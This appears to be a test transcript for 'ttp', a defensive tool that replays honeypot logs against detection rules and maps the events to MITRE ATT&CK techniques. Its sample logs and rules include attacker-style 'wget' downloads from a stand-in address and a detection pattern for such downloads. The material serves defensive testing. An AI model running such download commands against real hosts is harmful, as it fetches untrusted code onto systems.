Replaying logs.

A rule, and a log of three events:

    $ mkdir -p rules && cat > rules/R1.yaml <<'X'
    > rule_id: R1
    > rule_version: 1
    > name: download
    > applies_to: [command]
    > match: {pattern: '\bwget\b'}
    > emits: [{tactic: TA0011, technique_id: T1105, confidence: 0.85}]
    > evidence_fields: [command_text]
    > X
    $ cat > log.jsonl <<'X'
    > {"source_kind":"command","source_id":"1","attacker_uuid":"a1","session_id":"s1","ts":"2026-11-07T10:00:00Z","payload":{"command_text":"wget http://192.0.2.1/x"}}
    > {"source_kind":"command","source_id":"2","attacker_uuid":"a2","session_id":"s2","ts":"2026-11-07T11:00:00Z","payload":{"command_text":"ls"}}
    > {"source_kind":"scan","source_id":"3","attacker_uuid":"a2","payload":{}}
    > X

JSON lines on standard output, the summary on standard error:

    $ ttp replay log.jsonl --rules rules 2>/dev/null
    {"uuid":"6b97bd04-b61b-55cd-a59a-b9d2680b93c5","source_kind":"command","source_id":"1","attacker_uuid":"a1","identity_uuid":null,"session_id":"s1","decky_id":null,"tactic":"TA0011","technique_id":"T1105","sub_technique_id":null,"confidence":0.85,"rule_id":"R1","rule_version":1,"evidence":{"command_text":"wget http://192.0.2.1/x"},"attack_release":"enterprise-v18.1","mitre_url":"https://attack.mitre.org/techniques/T1105","ts":"2026-11-07T10:00:00Z"}

A quiet run says nothing beside its results:

    $ ttp replay log.jsonl --rules rules -q --output table
    TIME (UTC)           SESSION         TECHNIQUE  NAME                          CONF  RULE    EVIDENCE
    2026-11-07T10:00:00  s1              T1105      Ingress Tool Transfer         0.85  R1      wget http://192.0.2.1/x
    
    Tags by technique           sessions
               1  T1105                 1  Ingress Tool Transfer
    
    Sessions that show most (of 1 with tags)
          1 tag   s1                T1105
    
    Events by kind
               2  command
               1  scan
    
    3 records read, 0 rejected; 3 events judged, 1 of them tagged; 1 tag

Standard input, and the same through pipes:

    $ ttp replay --rules rules -q - < log.jsonl | sha256sum > 1; gzip -c log.jsonl | ttp replay --rules rules -q | sha256sum > 2; zstd -qc log.jsonl | ttp replay --rules rules -q | sha256sum > 3; cat 1 2 3 | sort -u | wc -l
    1

Filters:

    $ for f in '--kind scan' '--session s1' '--session s1,s2' '--attacker a2' '--since 2026-11-07T11:00:00Z' '--until 2026-11-07T10:00:01Z' '--technique T1105' '--technique T1059' '--tactic TA0011' '--rule R2' '--min-confidence 0.9'; do echo "$f: $(ttp replay log.jsonl --rules rules -q $f | wc -l)"; done
    --kind scan: 0
    --session s1: 1
    --session s1,s2: 1
    --attacker a2: 0
    --since 2026-11-07T11:00:00Z: 0
    --until 2026-11-07T10:00:01Z: 1
    --technique T1105: 1
    --technique T1059: 0
    --tactic TA0011: 1
    --rule R2: 0
    --min-confidence 0.9: 0

A layer for the Navigator, of what the filters let through; quiet or not, it is all that is on standard output:

    $ ttp replay log.jsonl --rules rules --output navigator -q
    {
      "name": "ttp",
      "versions": {
        "attack": "18",
        "navigator": "5.1.0",
        "layer": "4.5"
      },
      "domain": "enterprise-attack",
      "description": "Techniques that ttp found",
      "techniques": [
        {
          "techniqueID": "T1105",
          "tactic": "command-and-control",
          "score": 1,
          "comment": "R1; highest confidence 0.85",
          "enabled": true,
          "showSubtechniques": false
        }
      ],
      "gradient": {
        "colors": [
          "#fff3d6ff",
          "#f08a5dff"
        ],
        "minValue": 1,
        "maxValue": 1
      },
      "legendItems": []
    }
    $ cat > make-rule.sh <<'X'
    > sed "s/^rule_id: R1/rule_id: $1/; s/^name.*/name: n/; s/^emits.*/emits: [{tactic: $2, technique_id: $3, confidence: $4}]/" rules/R1.yaml > many/$1.yaml
    > X
    $ mkdir many; for r in 'R1 TA0011 T1105 0.85' 'R2 TA0011 T1105 0.9' 'R3 TA0002 "T1059, sub_technique_id: T1059.004" 0.5' 'R4 AML.TA0005 AML.T0051 0.9'; do eval "bash make-rule.sh $r"; done
    $ ttp replay log.jsonl --rules many --output navigator --summary none 2>notices | jq -c '.techniques[]'; grep -v records/s notices
    {"techniqueID":"T1105","tactic":"command-and-control","score":2,"comment":"R1, R2; highest confidence 0.90","enabled":true,"showSubtechniques":false}
    ttp: log.jsonl: format event
    ttp: notice: unknown source kind 'scan': its events are counted, not judged
    ttp: 1 tag of other matrices than enterprise is not in the layer
    $ ttp replay log.jsonl --rules many --output navigator --summary none --min-confidence 0.3 --technique T1059 -q | jq -c '.techniques[]'
    {"techniqueID":"T1059","tactic":"execution","enabled":true,"showSubtechniques":true}
    {"techniqueID":"T1059.004","tactic":"execution","score":1,"comment":"R3; highest confidence 0.50","enabled":true,"showSubtechniques":false}
    $ ttp replay log.jsonl --rules many --output navigator --tags-db layer.db -q | jq -r '.techniques[].techniqueID' | paste -sd ' '
    T1059 T1059.004 T1105
    $ ttp replay --rules rules --output navigator -q - < /dev/null | jq -c '[.techniques, .gradient.maxValue, .legendItems]'
    [[],1,[]]

A layer counts what the JSON lines have:

    $ ttp replay log.jsonl --rules many --output navigator --min-confidence 0 -q | jq '[.techniques[].score // 0] | add' > 1; ttp replay log.jsonl --rules many -q --min-confidence 0 | grep -vc AML > 2; paste 1 2
    3	3

A database beside the output; the second run adds nothing:

    $ ttp replay log.jsonl --rules rules --tags-db tags.db --summary none --output jsonl 2>&1 >/dev/null | grep new; ttp replay log.jsonl --rules rules --tags-db tags.db --summary none --output jsonl 2>&1 >/dev/null | grep new
    ttp: 1 new tag in 'tags.db'
    ttp: 0 new tags in 'tags.db'

The state of rules:

    $ echo 'R1: disabled' > state.yaml; ttp replay log.jsonl --rules rules --state state.yaml -q | wc -l
    0
    $ echo 'R1: {state: clipped, confidence_max: 0.5}' > state.yaml; ttp replay log.jsonl --rules rules --state state.yaml -q | grep -o '"confidence":[0-9.]*'
    "confidence":0.5
    $ echo 'R1: {state: clipped, confidence_max: 0.1}' > state.yaml; ttp replay log.jsonl --rules rules --state state.yaml --summary json 2>&1 | grep -o '"dropped":[0-9]*'
    "dropped":1
    $ echo 'R1: {state: disabled, expires_at: 2026-11-01}' > state.yaml; ttp replay log.jsonl --rules rules --state state.yaml -q --now 2026-11-02 | wc -l
    1

A reader that goes away ends the program quietly:

    $ yes "$(head -1 log.jsonl)" | head -20000 > many.jsonl; ttp replay many.jsonl --rules rules -q | head -1 | wc -l; echo "${PIPESTATUS[0]}"
    1
    0

An interrupt ends it with its own status, and what was found is kept:

    $ (head -1 log.jsonl; exec sleep 3) | (ttp replay - --format event --rules rules --tags-db int.db -q --batch-size 100 & pid=$!; sleep 1; kill -INT $pid; wait $pid; echo "status $?") | cut -c1-60
    {"uuid":"6b97bd04-b61b-55cd-a59a-b9d2680b93c5","source_kind"
    status 130

Index and memo change nothing but the time:

    $ { seq -f 'wget http://192.0.2.1/%g' 300; seq -f 'ls %g' 300; yes 'wget -q x' | head -300; } | sed 's/.*/{"source_kind":"command","source_id":"&","attacker_uuid":"a1","payload":{"command_text":"&"}}/' > mixed.jsonl
    $ for o in '' --no-index --no-memo '--no-index --no-memo' '--profile json'; do ttp replay mixed.jsonl --rules rules -q $o 2>/dev/null | sha256sum; done | sort -u | wc -l
    1
    $ ttp replay mixed.jsonl --rules rules -q | wc -l
    600

Where the time goes; counts are exact:

    $ ttp replay mixed.jsonl --rules rules -q --profile table 2>&1 >/dev/null | sed -E 's/ +[0-9.]+ +[0-9.]+ %$/ T/; s/^(index: ).* bytes/\1N bytes/; s/ in [0-9.]+ s, [0-9,]+ / in T s, N /'
    STAGE            SECONDS     SHARE
    start T
    read T
    decompress T
    parse T
    match T
    lifters T
    tracker T
    write T
    other T
    
    RULE            CANDIDATES      CONFIRMS       MATCHES     SECONDS  OF MATCH
    R1                     600           301           600 T
    
    memo: 299 hits, 589 misses, 0 not looked for; hit rate 33.7 %
    index: N bytes
    900 events, 106,368 bytes in T s, N events/s; 900 of them timed
    $ ttp replay mixed.jsonl --rules rules -q --no-index --no-memo --profile json --profile-file profile.json >/dev/null; grep -o '"rule":"R1","candidates":900,"confirms":900,"matches":600' profile.json; grep -c wget profile.json
    "rule":"R1","candidates":900,"confirms":900,"matches":600
    0
    [1]
    $ ttp replay mixed.jsonl --rules rules -q --profile trace --profile-file trace.json >/dev/null; head -2 trace.json; sed -nE 's/^\{"ph":"X","pid":1,"tid":1,("name":"[a-z]*"),"ts":[0-9.]*,"dur":[0-9.]*\},?$/\1/p' trace.json | sort -u; tail -1 trace.json
    [
    {"ph":"M","pid":1,"tid":1,"name":"process_name","args":{"name":"ttp"}},
    "name":"match"
    "name":"parse"
    "name":"read"
    "name":"start"
    "name":"tracker"
    "name":"write"
    ]
    $ ttp replay mixed.jsonl --rules rules -q --profile trace
    ttp: --profile trace needs --profile-file FILE
    [2]
    $ ttp replay mixed.jsonl --rules rules -q --profile json --profile-file mixed.jsonl
    ttp: --profile-file would overwrite 'mixed.jsonl', which this run uses; name another file
    [2]
    $ ttp replay mixed.jsonl --rules rules -q --profile-file x
    ttp: --profile-file requires --profile
    Try 'ttp replay --help'.
    [2]

Usage:

    $ ttp replay
    ttp: no rules: there is neither a directory 'rules/ttp' here nor '/usr/local/share/ttp/rules/ttp'; give --rules DIR
    [2]
    $ ttp replay --format pcap log.jsonl
    ttp: --format: pcap not in {audit,chat,cowrie,event,mcp,session,toolcall,eml,auto}
    Try 'ttp replay --help'.
    [2]
    $ ttp replay --since yesterday log.jsonl
    ttp: --since: 'yesterday' is not a time (2026-11-07, 2026-11-07T10:00:00Z or a Unix time)
    Try 'ttp replay --help'.
    [2]
    $ ttp replay --shard 3/3 log.jsonl
    ttp: --shard: '3/3' is not I/N with 0 ≤ I < N
    Try 'ttp replay --help'.
    [2]
    $ ttp frobnicate
    ttp: no verb 'frobnicate'; the verbs are replay, backfill, rules, report, explain, lint-rules, precision, corpus
    Try 'ttp --help'.
    [2]
    $ ttp replay --limit -1 log.jsonl
    ttp: --limit: '-1' is no whole number from 0 to 9007199254740992
    Try 'ttp replay --help'.
    [2]
    $ ttp replay --sequence 2 log.jsonl
    ttp: --sequence: 2 not in {off,only,with}
    Try 'ttp replay --help'.
    [2]
    $ ttp replay --warmup-calls 99999999999999999999 log.jsonl
    ttp: --warmup-calls: '99999999999999999999' is no whole number from 0 to 18446744073709551615
    Try 'ttp replay --help'.
    [2]

An address is who the map says it is:

    $ printf '203.0.113.9\tbob\n' > map.tsv; echo '{"eventid":"cowrie.command.input","session":"s1","src_ip":"203.0.113.9","timestamp":"2026-11-01T23:59:55Z","input":"wget x"}' > cowrie.jsonl
    $ ttp replay cowrie.jsonl --rules rules -q --attacker-map map.tsv --attacker 203.0.113.9 | grep -o '"attacker_uuid":"[^"]*"'
    "attacker_uuid":"bob"

A command without a time of its own has that of its session:

    $ echo '{"session_id":"s","attacker_uuid":"a","ended_at":"2026-11-07T10:00:00Z","commands":[{"command_text":"wget a","ts":null},{"command_text":"wget b","timestamp":"soon"}]}' > session.jsonl
    $ ttp replay session.jsonl --format session --rules rules -q | grep -o '"ts":[^}]*'
    "ts":"2026-11-07T10:00:00Z"
    "ts":"2026-11-07T10:00:00Z"

What a terminal might obey is escaped in a summary, too:

    $ printf '{"source_kind":"command","source_id":"1","attacker_uuid":"a1","session_id":"\302\233x\330\234","ts":"2026-11-07T10:00:00Z","payload":{"command_text":"wget"}}\n' > control.jsonl
    $ ttp replay control.jsonl --rules rules --summary json 2>&1 >/dev/null | grep -c '\\u009bx\\u061c'
    1

Of a directory with mail, what is named like it:

    $ mkdir box; printf 'From: a@example.net\nSubject: x\n\nhello\n' > box/1.eml; echo 'About this box' > box/README
    $ ttp replay box --rules rules --summary json 2>&1 >/dev/null | grep -o '"records":[0-9]*,"rejected":[0-9]*'
    "records":1,"rejected":0
    $ ttp replay box --format eml --rules rules --summary json 2>&1 >/dev/null | grep -o '"records":[0-9]*,"rejected":[0-9]*'
    "records":2,"rejected":1

A request is explained, but nobody's password with it; nor are addresses of mail:

    $ mkdir web; printf 'rule_id: R1\nrule_version: 1\nname: n\napplies_to: [http_request, email]\nmatch: {any: [{field: request_text, contains: "zzz"}, {field: From, contains: "zzz"}]}\nemits: [{tactic: TA0001, technique_id: T1190, confidence: 0.7}]\nevidence_fields: [count]\n' > web/R1.yaml
    $ ttp explain --rules web '{"source_kind":"http_request","attacker_uuid":"a","payload":{"raw_url":"/"}}' 2>&1 | grep R1
      R1      n                           none of 2 conditions holds: request_text is url /\n
    $ printf '%s\n' '{"source_kind":"http_request","attacker_uuid":"a","payload":{"raw_url":"/x","body":"user=joe&password=hunter2"}}' '{"source_kind":"email","attacker_uuid":"a","payload":{"From":"bob@example.com","rcpt_to":"v@corp.example"}}' > private.jsonl
    $ for i in 1 2; do for o in text json; do ttp explain --rules web --all --output $o --line $i private.jsonl > explained 2>&1; grep -c '(hidden)' explained; grep -c 'hunter2\|bob@\|v@corp' explained; done; done
    2
    0
    1
    0
    2
    0
    1
    0
    [1]

What is typed on the command line may obey no terminal either:

    $ touch $'s\e[31m.yaml'; ttp rules state R1 disabled --rules web --state $'s\e[31m.yaml' 2>&1 | grep -c $'\e'
    0
    [1]
